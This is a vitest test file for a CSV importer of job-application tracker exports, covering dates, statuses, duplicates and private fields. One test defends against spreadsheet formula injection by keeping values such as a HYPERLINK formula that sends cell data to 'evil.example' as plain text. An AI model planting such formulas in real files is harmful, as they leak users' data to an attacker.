import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { readTable } from './read-table';
import type { GivenTable, ReadTable } from './types';

// The files of test/cases, each under its name: what their columns become, and what is asked.

const HERE = { timeZone: 'Europe/Berlin', today: '2026-11-30' };
function tableIn(name: string, over: Partial<GivenTable> = {}): ReadTable {
  const answer = readTable({ bytes: readFileSync(`test/cases/${name}`), fileName: name, ...HERE, ...over });
  if (!answer.ok) throw new Error(answer.message);
  return answer.table;
}
const fieldsOf = ({ columns }: ReadTable) =>
  Object.fromEntries(columns.map(({ header, field }) => [header, field]));
const applications = ({ items }: ReadTable) => items.map(({ application }) => application);
const asked = ({ questions }: ReadTable) => questions.filter(({ required }) => required).map(({ id }) => id);

describe('01-linkedin-job-applications.csv', () => {
  const table = tableIn('01-linkedin-job-applications.csv');

  test('is read month first, with the clock', () => {
    expect(table).toMatchObject({
      format: 'linkedin-applications',
      encoding: 'utf-8',
      rows: 4,
      dateOrder: 'mdy',
    });
    expect(applications(table).map(({ events }) => events)).toEqual([
      [{ to: 'applied', on: '2026-08-15', at: '15:04' }],
      [{ to: 'applied', on: '2026-08-15', at: '15:06' }],
      [{ to: 'applied', on: '2026-09-03', at: '00:00' }],
      [{ to: 'applied', on: '2026-01-02' }],
    ]);
    expect(table.questions).toEqual([]);
  });

  test('proposes that two rows are one application, and keeps commas in names', () => {
    expect(table.duplicates).toEqual([{ lines: [2, 4], because: 'posting' }]);
    expect(applications(table)[2]).toMatchObject({
      company: 'Harrow, Finch & Co.',
      role: 'Analyst, Risk (Contract)',
    });
  });

  test('imports neither telephone, address nor answers unless they are asked for', () => {
    expect(JSON.stringify(table.items)).not.toMatch(/7700|ana\.ruiz|SQL/);
    const { columns } = table;
    const mapping = columns.map(({ header, field }) =>
      header === 'Question And Answers' ? ('note' as const) : field,
    );
    expect(applications(tableIn('01-linkedin-job-applications.csv', { mapping }))[0]?.note).toContain(
      'years of SQL',
    );
  });
});

describe('02-linkedin-saved-jobs.csv', () => {
  test('is read as LinkedIn writes days, written out, and can be turned', () => {
    const table = tableIn('02-linkedin-saved-jobs.csv');
    expect(table).toMatchObject({ format: 'linkedin-saved', dateOrder: 'mdy', duplicates: [] });
    expect(applications(table).map(({ stage, events }) => [stage, events[0]?.on])).toEqual([
      ['saved', '2026-11-03'],
      ['saved', '2026-03-11'],
    ]);
    expect(table.columns[0]?.days).toEqual(['3 November 2026', '11 March 2026']);
    expect(table.questions).toMatchObject([
      {
        ...{ id: 'date-order', required: false, used: 'mdy' },
        examples: [{ readings: { mdy: '3 November 2026', dmy: '11 March 2026' } }, {}],
      },
    ]);
    const turned = tableIn('02-linkedin-saved-jobs.csv', { answers: { 'date-order': 'dmy' } });
    expect(applications(turned)[0]?.events[0]?.on).toBe('2026-03-11');
  });
});

describe('03-huntr-two-boards.csv', () => {
  const table = tableIn('03-huntr-two-boards.csv');

  test('asks which boards, and what the lists of one’s own mean', () => {
    expect(table).toMatchObject({ format: 'huntr', rows: 3, problems: [], duplicates: [] });
    expect(asked(table)).toEqual(['boards', 'status:ghosted']);
    expect(table.questions.map(({ id, proposed }) => [id, proposed])).toEqual([
      ['boards', ['Job Search 2026', 'Old board']],
      ['status:applied', 'applied'],
      ['status:rejected', 'rejected'],
      ['status:ghosted', 'ghosted'],
    ]);
    const one = tableIn('03-huntr-two-boards.csv', { answers: { boards: ['Old board'] } });
    expect([applications(one).map(({ role }) => role), one.leftOut]).toEqual([['Intern'], [2, 3]]);
  });

  test('takes no dash for a text, no creation for an application, and no page for words', () => {
    const [first, second, third] = applications(table);
    expect(first).toMatchObject({
      ...{ company: 'Acme', location: 'Leeds, UK', appliedOn: '2026-03-14', salary: null, deadline: null },
      note: 'We value "ownership", speed & care.\n\n- Go',
    });
    expect(second).toMatchObject({
      ...{
        ending: 'rejected',
        appliedOn: null,
        endedOn: '2026-04-02',
        url: null,
        note: null,
        workMode: 'remote',
      },
      salary: { min: 70_000, max: 70_000, currency: null, period: null },
      events: [
        { to: 'saved', on: '2026-02-27' },
        { to: 'applied', on: null },
        { to: 'rejected', on: '2026-04-02' },
      ],
    });
    expect(third).toMatchObject({ ending: 'ghosted', deadline: '2024-11-01' });
    expect(third?.events[0]).toEqual({ to: 'saved', on: '2024-10-27', at: '01:30' });
  });
});

test('04-simplify.csv: a status has its own day, and what is saved has none of applying', () => {
  const table = tableIn('04-simplify.csv');
  expect(table).toMatchObject({ format: 'simplify', problems: [] });
  expect(asked(table)).toEqual(['status:interviewing']);
  const [rejected, saved, withdrawn, interviewing] = applications(table);
  expect(rejected).toMatchObject({
    ...{ stage: 'applied', ending: 'rejected', appliedOn: '2026-09-01' },
    events: [
      { to: 'applied', on: '2026-09-01' },
      { to: 'rejected', on: '2026-09-20' },
    ],
  });
  expect(saved).toMatchObject({ stage: 'saved', ending: null, appliedOn: null });
  expect(withdrawn).toMatchObject({ ending: 'withdrawn', archived: true, endedOn: '2026-10-12' });
  expect(interviewing).toMatchObject({ stage: 'first-interview', ending: null });
  const screened = tableIn('04-simplify.csv', { answers: { 'status:interviewing': 'phone-screen' } });
  expect(applications(screened)[3]).toMatchObject({ stage: 'phone-screen' });
  expect(asked(screened)).toEqual(['status:interviewing']);
  expect(screened.questions[0]).toMatchObject({ answered: true, used: 'phone-screen' });
});

test('07-google-sheets-dmy.csv: one day decides for the file, and one that does not fit is an error of its row', () => {
  const table = tableIn('07-google-sheets-dmy.csv');
  expect(table).toMatchObject({ format: 'generic', dateOrder: 'dmy', questions: [] });
  expect(applications(table).map(({ appliedOn }) => appliedOn)).toEqual([
    '2026-11-03',
    '2026-11-04',
    '2026-10-31',
    '2026-11-05',
  ]);
  // 5 December is still to come on 30 November: that it was rejected stands, the day is left open.
  const endedIn = (read: ReadTable) => applications(read).map(({ ending, endedOn }) => [ending, endedOn]);
  expect(endedIn(table)[0]).toEqual(['rejected', null]);
  expect(endedIn(tableIn('07-google-sheets-dmy.csv', { today: '2026-12-31' }))).toEqual([
    ['rejected', '2026-12-05'],
    [null, null],
    ['rejected', '2026-11-02'],
    ['rejected', null],
  ]);
  expect(table.problems.filter(({ blocks }) => blocks)).toMatchObject([
    { line: 5, column: 'Rejected on', code: 'day', message: expect.stringContaining('11/13/2026') },
  ]);
});

test('09-excel-serial-dates.csv: numbers are days as Excel counts them, and day 60 never was', () => {
  const table = tableIn('09-excel-serial-dates.csv');
  expect(table.dateOrder).toBe('excel');
  expect(applications(table).map(({ events }) => events[0])).toEqual([
    { to: 'applied', on: '2026-11-03' },
    { to: 'applied', on: '2026-11-03', at: '18:00' },
    { to: 'applied', on: null },
  ]);
  expect(table.problems).toMatchObject([{ line: 4, column: 'Date', code: 'day-number', blocks: true }]);
  expect(table.questions.map(({ code }) => code)).toEqual(['day-meaning', 'excel-days']);
  const none = tableIn('09-excel-serial-dates.csv', { answers: { 'excel-days': 'no' } });
  expect([applications(none)[0]?.appliedOn, none.problems]).toEqual([null, []]);
});

test('10-jobsync.csv: a status proves an application, and a moment is a day where the person is', () => {
  const table = tableIn('10-jobsync.csv');
  const [first, second] = applications(table);
  expect(first).toMatchObject({
    stage: 'first-interview',
    appliedOn: null,
    workMode: 'remote',
    source: 'LinkedIn',
  });
  expect(first?.events).toContainEqual({ to: 'applied', on: null });
  expect(second).toMatchObject({ ending: 'rejected', appliedOn: '2026-07-03' });
  const inUtc = tableIn('10-jobsync.csv', { timeZone: 'UTC' });
  expect(applications(inUtc)[1]?.appliedOn).toBe('2026-07-02');
});

test('12-formulas-and-phones.csv: what looks like a formula is a text', () => {
  const table = tableIn('12-formulas-and-phones.csv');
  const [link, sum, dashes] = applications(table);
  expect(link).toMatchObject({ company: '=HYPERLINK("https://evil.example/?"&A2,"Acme")' });
  expect(link?.note).toBe('=1+1\n\nPhone: +44 7700 900123');
  expect(sum).toMatchObject({ company: '@SUM(1+1)', role: '-5 Levels Up' });
  expect(dashes?.note).toBe('- nice people\n- slow process\n\nPhone: 0044 7700 900123');
});

describe('14-evaluated-is-not-applied.csv', () => {
  const table = tableIn('14-evaluated-is-not-applied.csv');

  test('asks what its date is, and proposes the day that a note gives', () => {
    expect(fieldsOf(table)).toMatchObject({
      source: 'url',
      channel: 'source',
      sector: 'industry',
      last_updated: null,
    });
    expect(asked(table)).toEqual(['day-meaning:0', 'status:no response']);
    const [sent, drafted] = applications(table);
    expect(sent).toMatchObject({ appliedOn: null, ending: 'ghosted' });
    expect(drafted).toMatchObject({ stage: 'saved', ending: null, appliedOn: null });
    expect(drafted?.events).toEqual([{ to: 'saved', on: '2026-06-10' }]);
    expect(table.questions.find(({ id }) => id === 'days-in-notes')).toMatchObject({
      ...{ proposed: 'take', used: 'leave', required: false, lines: [2] },
      examples: [{ readings: { take: '24 June 2026' } }],
    });
  });

  test('takes that day once it is said', () => {
    const taken = tableIn('14-evaluated-is-not-applied.csv', { answers: { 'days-in-notes': 'take' } });
    expect(applications(taken)[0]?.appliedOn).toBe('2026-06-24');
  });
});
